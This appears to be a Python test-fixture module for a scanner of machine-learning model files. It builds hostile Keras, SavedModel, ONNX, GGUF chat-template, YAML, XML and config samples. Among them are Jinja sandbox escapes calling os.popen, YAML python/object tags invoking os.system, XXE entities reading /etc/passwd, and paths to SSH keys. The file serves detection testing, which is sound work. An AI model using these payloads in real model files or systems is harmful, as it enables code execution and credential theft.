"""Hostile files that hold no pickle: Keras, SavedModel, ONNX, GGUF, Hugging Face, MLflow, PMML and others."""

from __future__ import annotations

import json

from mlsupply.evidence.models.names import words
from tests.models.keras_files import CODE, hdf5, keras, layer, sequential
from tests.models.writing import Zip, field, gguf


def _lambda() -> dict[str, object]:
    return layer("Lambda", config={"function": CODE})


def keras_files() -> dict[str, tuple[str, bytes]]:
    nodes: dict[str, object] = {
        "lambda within bidirectional": layer("Bidirectional", config={"layer": layer("RNN", config={"cell": _lambda()})}),
        "lambda within functional": layer("Functional", "keras", {"layers": [_lambda()], "input_layers": []}),
        "regularizer": layer("Dense", config={"kernel_regularizer": CODE}),
        "activation by name": layer("Dense", config={"activation": layer("function", "os", "system")}),
        "activation of builtins": layer(
            "Activation",
            config={"activation": {"module": "builtins", "class_name": "exec", "config": {}, "registered_name": "exec"}},
        ),
        "registered name": layer(
            "Dense",
            "os",
            {},
        )
        | {"class_name": "system", "registered_name": "system"},
        "dtype policy": layer("Dense", config={"dtype": {"module": "shutil", "class_name": "rmtree", "config": {}}}),
        "numpy from file": layer("function", "numpy", "fromfile"),
        "importlib": layer("import_module", "importlib", {"name": "x"}),
        "vocabulary of a host": layer("TextVectorization", config={"vocabulary": "https://x.invalid/v.txt"}),
        "integer vocabulary": layer("IntegerLookup", config={"vocabulary": "/proc/self/environ"}),
        "ops": layer("function", "keras.src.ops.numpy", "load"),
        "keras utils": layer("function", "keras.src.utils.io_utils", "print_msg")
        | {"config": "keras.src.utils.file_utils.get_file"},
        "hub layer": layer("KerasLayer", "tensorflow_hub.keras_layer", {"handle": "https://x.invalid/m"}),
    }
    made = {}
    for key, node in nodes.items():
        made[f"keras 3, {key}"] = ("m.keras", keras(sequential(layer("Dense"), node)))
        made[f"keras 2, {key}"] = ("m.h5", hdf5(b"model_config", json.dumps(sequential(node)).encode()))
    compiled = sequential() | {"compile_config": {"optimizer": "adam", "metrics": [layer("function", "os", "popen")]}}
    built = sequential() | {"build_config": {"input_shape": [1]}, "custom": [{"a": {"b": _lambda()}}]}
    inner = keras(sequential(_lambda()))
    external = hdf5(b"\x01\x08\x40\x0dmodel_weights" + b"\x0f\0" + b"\0/etc/passwd\0x\0")
    plain = json.dumps(sequential()).encode()
    made |= {
        "keras 3, metrics": ("m.keras", keras(compiled)),
        "keras 3, anywhere": ("m.keras", keras(built)),
        "keras 3, archive within": ("m.zip", Zip().add("inner.keras", inner).end()),
        "keras 3, linked weights": (
            "m.keras",
            Zip().add("metadata.json", b"{}").add("config.json", plain).add("model.weights.h5", external).end(),
        ),
        "keras 3, upper case": (
            "m.keras",
            Zip()
            .add("metadata.json", b"{}")
            .add("config.json", plain)
            .add("CONFIG.JSON", json.dumps(sequential(_lambda())).encode())
            .end(),
        ),
        "keras 3, two configurations": (
            "m.keras",
            Zip()
            .add("metadata.json", b"{}")
            .add("config.json", json.dumps(sequential(_lambda())).encode())
            .add("config.json", plain)
            .end(),
        ),
        "keras 2, training": ("m.h5", hdf5(b"model_config", plain, b"training_config", json.dumps({"loss": CODE}).encode())),
    }
    return made


def _saved(*nodes: bytes, function: bool = False) -> bytes:
    body = b"".join(field(3 if function else 1, node) for node in nodes)
    graph = field(2, field(1, body)) if function else body
    return field(1, 1) + field(2, field(1, field(4, "serve")) + field(2, graph))


def saved_models() -> dict[str, tuple[str, bytes]]:
    hostile = sorted(
        words(
            """
            EagerPyFunc PyFuncStateless MatchingFiles ReaderReadV2 TextLineDataset FixedLengthRecordDatasetV2 PyFunc
            SqlDataset SaveDatasetV2 LoadDataset CreateSummaryFileWriter ImportEvent WholeFileReaderV2 DatasetToTFRecord
            DebugIdentityV2 RegisterDataset DataServiceDatasetV4 RpcServerStart PrintV2 DumpTensor LMDBDataset
            TFRecordDatasetV2
            """
        )
    )
    return {
        f"saved model, {op}": ("saved_model.pb", _saved(field(1, "n") + field(2, op), function=bool(n % 2)))
        for n, op in enumerate(hostile)
    }


def _onnx(graph: bytes, extra: bytes = b"") -> bytes:
    return field(1, 8) + field(2, "pytorch") + field(7, graph) + field(8, field(2, 17)) + extra


RELU = field(1, "x") + field(2, "y") + field(4, "Relu")


def _outside(place: str) -> bytes:
    return field(1, 2) + field(8, "w") + field(13, field(1, "location") + field(2, place)) + field(14, 1)


def onnx_files() -> dict[str, tuple[str, bytes]]:
    away = _outside("../../../etc/passwd")
    attribute = field(4, "Constant") + field(5, field(1, "value") + field(5, away))
    many = field(4, "X") + field(5, field(1, "values") + field(10, away))
    sparse = field(15, field(1, away))
    function = field(25, field(1, "f") + field(7, attribute))
    training = field(20, field(1, field(1, RELU) + field(5, away)))
    graphs = field(4, "Loop") + field(
        5, field(1, "body") + field(6, field(1, field(4, "If") + field(5, field(6, field(5, away)))))
    )
    return {
        "onnx, in a constant": ("m.onnx", _onnx(field(1, attribute))),
        "onnx, in a list": ("m.onnx", _onnx(field(1, many))),
        "onnx, sparse": ("m.onnx", _onnx(field(1, RELU) + sparse)),
        "onnx, in a function": ("m.onnx", _onnx(field(1, RELU), function)),
        "onnx, in training": ("m.onnx", _onnx(field(1, RELU), training)),
        "onnx, two graphs deep": ("m.onnx", _onnx(field(1, graphs))),
        "onnx, share": ("m.onnx", _onnx(field(1, RELU) + field(5, _outside("\\\\host\\share\\w")))),
        "onnx, address": ("m.onnx", _onnx(field(1, RELU) + field(5, _outside("file:///etc/passwd")))),
        "onnx, home": ("m.onnx", _onnx(field(1, RELU) + field(5, _outside("/home/u/.ssh/id_rsa")))),
        "onnx, dots in the middle": ("m.onnx", _onnx(field(1, RELU) + field(5, _outside("a/b/../../../x")))),
    }


ESCAPES = (
    "{{ ().__class__.__base__.__subclasses__()[104] }}",
    "{% set x = cycler.__init__.__globals__ %}{{ x.os.popen('id').read() }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ messages|map('attr', '__class__')|list }}",
    "{{ ('__cl' + 'ass__')|string and ''[('__cl' + 'ass__')] }}",
    "{% set u = '_' * 2 %}{{ ''[u + 'class' + u] }}",
    "{% set a %}__{% endset %}{{ ''|attr(a ~ 'class' ~ a) }}",
    "{{ namespace.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ dict.mro()[-1].__subclasses__() }}",
    "{{ (lipsum|attr('__globals__')).os }}",
    "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}",
    "{{ messages[0]['__class__'] }}",
    "{{ ''|attr('__class__'|lower) }}",
    "{{ x['\\137\\137class\\137\\137'] }}",
    "{{ x['__class__'.upper().lower()] }}",
    "{% import 'os' as os %}{{ os.system('x') }}",
)


def templates() -> dict[str, tuple[str, bytes]]:
    made = {}
    for number, template in enumerate(ESCAPES):
        files = {
            "gguf": ("m.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", template)])),
            "tokenizer": ("tokenizer_config.json", json.dumps({"tokenizer_class": "X", "chat_template": template}).encode()),
            "file": ("chat_template.jinja", ("{% for m in messages %}{{ m }}{% endfor %}" + template).encode()),
            "named": (
                "m.gguf",
                gguf([("tokenizer.chat_template", "{{ messages }}"), ("tokenizer.chat_template.tool_use", template)]),
            ),
        }
        chosen = list(files)[number % 4]
        made[f"template in a {chosen}: {template[:40]}"] = files[chosen]
    return made


CONFIGS: dict[str, tuple[str, object]] = {
    "trust in generation": ("generation_config.json", {"trust_remote_code": True}),
    "kernels from elsewhere": ("config.json", {"text_config": {"_attn_implementation_internal": "someone/kernel"}}),
    "hydra target": ("config.json", {"model": {"net": {"_target_": "subprocess.check_output", "args": "x"}}}),
    "jsonpickle reduce": ("m.json", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["x"]}]}),
    "sentence transformers module": ("modules.json", [{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}]),
    "index out of the folder": (
        "model.safetensors.index.json",
        {"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}},
    ),
    "pickle index out of the folder": ("pytorch_model.bin.index.json", {"metadata": {}, "weight_map": {"w": "/tmp/x.bin"}}),
    "langchain": (
        "chain.json",
        {"_type": "llm_chain", "prompt": {"_type": "prompt", "template": "{{ ''.__class__ }}", "template_format": "jinja2"}},
    ),
}
TEXTS: dict[str, tuple[str, str]] = {
    "yaml apply": ("hparams.yaml", "a: !!python/object/apply:os.system ['x']\n"),
    "yaml new": ("model.yaml", "!!python/object/new:os.system [x]\n"),
    "yaml name": ("m.yml", "a:\n  - !!python/name:os.system\n"),
    "yaml module": ("m.yml", "a: !!python/module:os\n"),
    "hydra yaml": ("model_config.yaml", "model:\n  _target_: os.system\n  command: x\n"),
    "entity": ("m.pmml", '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'),
    "parameter entity": ("m.xml", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://x.invalid/p">%p;]><r/>'),
}


def configurations() -> dict[str, tuple[str, bytes]]:
    made = {f"configuration, {key}": (file, json.dumps(value).encode()) for key, (file, value) in CONFIGS.items()}
    made |= {f"text, {key}": (file, value.encode()) for key, (file, value) in TEXTS.items()}
    schema = {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "content": {"func": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {}}},
    }
    made["skops, partial"] = ("m.skops", Zip().add("schema.json", json.dumps(schema).encode()).end())
    handler = (
        b"import subprocess\nclass H:\n    def handle(self, d, c):\n        subprocess.run(['x'])\nsubprocess.run(['x'])\n"
    )
    made["torchserve handler"] = (
        "m.mar",
        Zip().add("MAR-INF/MANIFEST.json", b'{"model": {"handler": "h.py"}}').add("h.py", handler).end(),
    )
    made["modelling code in an archive"] = (
        "m.zip",
        Zip()
        .add("config.json", b'{"auto_map": {"AutoModel": "modeling_x.X"}}')
        .add("modeling_x.py", b"import os\nos.system('x')\n")
        .end(),
    )
    return made
